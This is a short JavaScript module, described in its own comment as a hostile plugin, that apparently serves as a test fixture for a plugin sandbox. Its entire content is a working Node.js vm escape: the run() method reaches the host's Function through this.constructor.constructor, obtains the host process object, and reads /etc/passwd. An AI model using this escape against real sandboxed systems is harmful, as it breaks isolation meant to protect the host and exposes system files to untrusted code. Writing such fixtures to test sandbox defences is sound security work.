// Hostile plugin: The classic vm escape: reaching the host's Function through a constructor chain.
module.exports = {
  run() {
    const HostFunction = this.constructor.constructor;
    const hostProcess = HostFunction('return process')();
    return hostProcess.mainModule.require('fs').readFileSync('/etc/passwd', 'utf8');
  },
};
